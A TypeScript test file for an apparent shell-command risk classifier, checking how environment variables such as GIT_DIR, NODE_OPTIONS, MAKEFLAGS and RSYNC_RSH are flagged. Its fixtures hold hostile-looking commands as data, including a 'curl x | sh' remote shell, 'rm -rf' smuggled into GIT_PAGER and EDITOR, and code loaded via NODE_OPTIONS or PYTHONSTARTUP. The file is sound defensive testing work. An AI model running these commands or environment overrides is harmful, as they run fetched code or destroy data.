import { describe, expect, it } from 'vitest';
import { categorize, IntentGateError } from '../../src/index';
import {
  NO_ENVIRONMENT,
  NO_ENVIRONMENT_CODE,
  type EnvironmentCode,
  type FamilyEnvironment,
} from '../../src/shell/catalog/environmentCode';
import { environmentCode, isCodeEnvironment } from '../../src/shell/engine/codeEnvironment';
import { isCodeVariable } from '../../src/shell/engine/codeVariables';
import { BUILTIN_CATALOG } from '../../src/shell/programs/builtinCatalog';
import { BUILTIN_FAMILIES } from '../../src/shell/programs/builtinFamilies';
import { environmentOf } from '../../src/shell/registry/familyEnvironment';
import { RegistryClashError } from '../../src/shell/registry/registryClashError';
import type { ShellWord } from '../../src/shell/words/shellWord';
import { makeWorkspace } from '../support/workspace';

// What a program reads from the environment is its family's (FamilyEnvironment); the catalog's
// code carries every family's, composed, so the engine and the family readers reach it without
// naming a family, and a variable claimed by two families is a mistake found when it is built.

const UNKNOWN: ShellWord = { value: undefined, literal: undefined, source: '$x' };
const environment = BUILTIN_CATALOG.code.environment;

/** Every family's variables, each with the family's own answer for a value built at run time. */
const CLAIMED = BUILTIN_FAMILIES.flatMap((family, index) => {
  const own: FamilyEnvironment = family.environment ?? {};
  const code = Object.entries(own.code ?? {}).map(([name, read]) => ({
    family: index,
    name,
    code: read(UNKNOWN, name),
  }));
  const patterns = (own.codePatterns ?? []).flatMap((pattern) =>
    pattern.examples.map((name) => ({ family: index, name, code: pattern.read(UNKNOWN, name) })),
  );
  const lines = (own.commandLines ?? []).map((name) => ({ family: index, name, code: undefined }));
  return [...code, ...patterns, ...lines];
});

const read = (code: Record<string, (word: ShellWord, name: string) => EnvironmentCode>): FamilyEnvironment => ({
  code,
});
const failing = (): EnvironmentCode => ({ problem: 'x: fail closed', runs: [] });
const plain = (): EnvironmentCode => NO_ENVIRONMENT_CODE;

describe('the environment registry', () => {
  it('is given by the families: git, python, make, tar and zsh variables among them', () => {
    const names = new Set(CLAIMED.map(({ name }) => name));
    expect(
      ['GIT_DIR', 'GIT_PAGER', 'PYTHONPATH', 'MAKEFLAGS', 'TAR_OPTIONS', 'ZDOTDIR', 'RSYNC_RSH', 'EDITOR'].filter(
        (name) => !names.has(name),
      ),
    ).toEqual([]);
  });

  it.each(CLAIMED)("finds $name through the catalog's code as its family gives it", ({ name, code }) => {
    if (code === undefined) expect(environment.isCommandLine(name)).toBe(true);
    else expect(environment.code(name, UNKNOWN)).toEqual(code);
    expect(isCodeEnvironment(name, environment) || isCodeVariable(name, environment)).toBe(true);
  });

  it.each(CLAIMED)('leaves $name to its family: the shell reads it not itself', ({ name }) => {
    expect([environmentCode(name, UNKNOWN, NO_ENVIRONMENT), isCodeVariable(name, NO_ENVIRONMENT)]).toEqual([
      undefined,
      false,
    ]);
  });

  it('answers nothing for a variable no program reads', () => {
    expect([environment.code('DATABASE_URL', UNKNOWN), environment.isCommandLine('DEBUG')]).toEqual([undefined, false]);
  });
});

describe('environmentOf', () => {
  it.each([
    {
      name: 'two families reading one variable',
      families: [read({ X_HOME: failing }), read({ X_HOME: plain })],
      entry: 'X_HOME',
    },
    {
      name: 'one variable as code and as a command line',
      families: [read({ X_RSH: failing }), { commandLines: ['X_RSH'] }],
      entry: 'X_RSH',
    },
    {
      name: 'two families running one command line',
      families: [{ commandLines: ['X_PAGER'] }, { commandLines: ['X_PAGER'] }],
      entry: 'X_PAGER',
    },
    {
      name: "a pattern matching another family's variable",
      families: [
        read({ X_CONFIG_1: failing }),
        { codePatterns: [{ pattern: /^X_CONFIG_\d+$/, examples: ['X_CONFIG_0'], read: failing }] },
      ],
      entry: 'X_CONFIG_1',
    },
    {
      name: "a pattern matching another family's pattern",
      families: [
        { codePatterns: [{ pattern: /^x_config_/, examples: ['x_config_shell'], read: failing }] },
        { codePatterns: [{ pattern: /_shell$/, examples: ['y_shell'], read: failing }] },
      ],
      entry: 'x_config_shell',
    },
  ])('throws on $name', ({ families, entry }) => {
    expect(() => environmentOf(families)).toThrow(RegistryClashError);
    expect(() => environmentOf(families)).toThrow(`environment variable '${entry}' is given twice`);
  });

  it('throws an IntentGateError with the code registry_clash, naming the variable', () => {
    const clash = [{ code: { X_HOME: failing } }, { code: { X_HOME: plain } }];
    let thrown: unknown;
    try {
      environmentOf(clash);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(IntentGateError);
    expect(thrown).toMatchObject({ code: 'registry_clash', registry: 'environment variable', entry: 'X_HOME' });
  });

  it('composes the families that claim distinct variables, by name and by pattern', () => {
    const composed = environmentOf([
      read({ X_HOME: failing }),
      undefined,
      { commandLines: ['X_PAGER'], codePatterns: [{ pattern: /^X_KEY_\d+$/, examples: ['X_KEY_0'], read: plain }] },
    ]);
    expect([
      composed.code('X_HOME', UNKNOWN),
      composed.code('X_KEY_7', UNKNOWN),
      composed.code('X_PAGER', UNKNOWN),
      composed.isCommandLine('X_PAGER'),
      composed.isCommandLine('X_HOME'),
    ]).toEqual([{ problem: 'x: fail closed', runs: [] }, NO_ENVIRONMENT_CODE, undefined, true, false]);
  });
});

/** Results captured on the code before the variables moved into the families: categories and each trigger with its note. */
const UNCHANGED = [
  {
    name: "git's folder set on the line",
    command: 'GIT_DIR=x git status',
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      'GIT_DIR=x | GIT_DIR makes git read its configuration, hooks or programs from elsewhere (a pager, an alias, a hook it runs): fail closed',
      'git | any non-empty command',
    ],
  },
  {
    name: "git's global configuration emptied",
    command: 'GIT_CONFIG_GLOBAL=/dev/null git status',
    categories: ['EXEC_ARBITRARY'],
    notes: ['git | any non-empty command'],
  },
  {
    name: 'node options that require a module',
    command: "NODE_OPTIONS='-r ./x.js' node a.js",
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      "NODE_OPTIONS='-r ./x.js' | NODE_OPTIONS may load a module or file into every such program: fail closed",
      'node | any non-empty command; not analysed: node a.js',
    ],
  },
  {
    name: 'node options that load nothing',
    command: 'NODE_OPTIONS=--max-old-space-size=4096 node a.js',
    categories: ['EXEC_ARBITRARY'],
    notes: ['node | any non-empty command; not analysed: node a.js'],
  },
  {
    name: 'a module folder of the workspace',
    command: 'PYTHONPATH=./lib python a.py',
    categories: ['EXEC_ARBITRARY'],
    notes: ['python | any non-empty command; not analysed: python a.py'],
  },
  {
    name: "python's start-up code",
    command: 'PYTHONSTARTUP=x.py python',
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      'PYTHONSTARTUP=x.py | PYTHONSTARTUP names Python code an interactive python runs first: fail closed',
      'python | any non-empty command',
    ],
  },
  {
    name: 'tar options keeping absolute names',
    command: 'TAR_OPTIONS=-P tar xf a.tar',
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      "*/* | possible overwrite (files matching a pattern): 'tar xf a.tar' may write any file below its folder, which the line does not name",
      "TAR_OPTIONS=-P | TAR_OPTIONS gives every later tar '-P', which may keep absolute member names, " +
        "run a command or move where tar reads or writes; put the option on tar's own line: fail closed",
      "tar | 'tar xf a.tar' may write any file below its folder, intentgate's control files " +
        '(.intentignore, the orchestration folder) and those .intentignore names included',
      'tar | any non-empty command',
    ],
  },
  {
    name: 'plain tar options',
    command: 'TAR_OPTIONS=-v tar xf a.tar',
    categories: ['FS_DELETE_OVERWRITE', 'FS_CONFIG_SECRETS', 'EXEC_ARBITRARY'],
    notes: [
      "*/* | possible overwrite (files matching a pattern): 'tar xf a.tar' may write any file below its folder, which the line does not name",
      "tar | 'tar xf a.tar' may write any file below its folder, intentgate's control files " +
        '(.intentignore, the orchestration folder) and those .intentignore names included',
      'tar | any non-empty command',
    ],
  },
  {
    name: 'make flags choosing the jobs',
    command: 'MAKEFLAGS=-j4 make',
    categories: ['EXEC_ARBITRARY'],
    notes: ['make | any non-empty command; not analysed: make'],
  },
  {
    name: 'make flags giving a variable',
    command: "MAKEFLAGS='SHELL=/bin/x' make",
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      "MAKEFLAGS='SHELL=/bin/x' | MAKEFLAGS may give make other makefiles, variables (SHELL=...) or code to evaluate: fail closed",
      'make | any non-empty command; not analysed: make',
    ],
  },
  {
    name: "zsh's start-up folder",
    command: 'ZDOTDIR=./z zsh -c ls',
    categories: ['EXEC_ARBITRARY'],
    notes: ['zsh | any non-empty command'],
  },
  {
    name: "git's pager as a command line",
    command: "GIT_PAGER='rm -rf x' git log",
    categories: ['FS_DELETE_OVERWRITE', 'EXEC_ARBITRARY'],
    notes: ['rm | any non-empty command', 'x | delete (does not exist)'],
  },
  {
    name: "rsync's remote shell as a command line",
    command: "RSYNC_RSH='curl x | sh' rsync a h:b",
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      'curl | HTTP request',
      'curl | any non-empty command',
      'curl | text produced at run time piped into a shell: fail closed',
      'rsync | file transfer',
    ],
  },
  {
    name: "npm's script shell set through env",
    command: 'env npm_config_script_shell=./x npm run a',
    categories: [
      'FS_DELETE_OVERWRITE',
      'FS_OUTSIDE_WORKSPACE',
      'FS_CONFIG_SECRETS',
      'DEPS_INSTALL_UPDATE',
      'GIT_PUBLISH',
      'SYSTEM_IMPACT',
      'SUDO',
      'NETWORK_RISK',
      'EXEC_ARBITRARY',
    ],
    notes: [
      'env | any non-empty command; not analysed: npm run a',
      'env | npm_config_script_shell chooses the shell or configuration npm runs scripts with: fail closed',
    ],
  },
  {
    name: "the user's editor exported",
    command: "export EDITOR='rm -rf x'",
    categories: ['FS_DELETE_OVERWRITE', 'EXEC_ARBITRARY'],
    notes: ['export | any non-empty command', 'x | delete (does not exist)'],
  },
  {
    name: 'a here-document printed into a shell',
    command: 'cat <<EOF | sh\nrm -rf x\nEOF',
    categories: ['FS_DELETE_OVERWRITE', 'EXEC_ARBITRARY'],
    notes: ['cat | any non-empty command', 'x | delete (does not exist)'],
  },
];

describe('a line setting a variable a program reads', () => {
  const workspaceRoot = makeWorkspace();

  it.each(UNCHANGED)('keeps its categories and notes: $name', ({ command, categories, notes }) => {
    const risk = categorize('shell', { command }, { workspaceRoot });
    expect({
      categories: risk.categories,
      notes: [...new Set(risk.evidence.map((item) => `${item.trigger} | ${item.note}`))].sort(),
    }).toEqual({ categories, notes });
  });
});
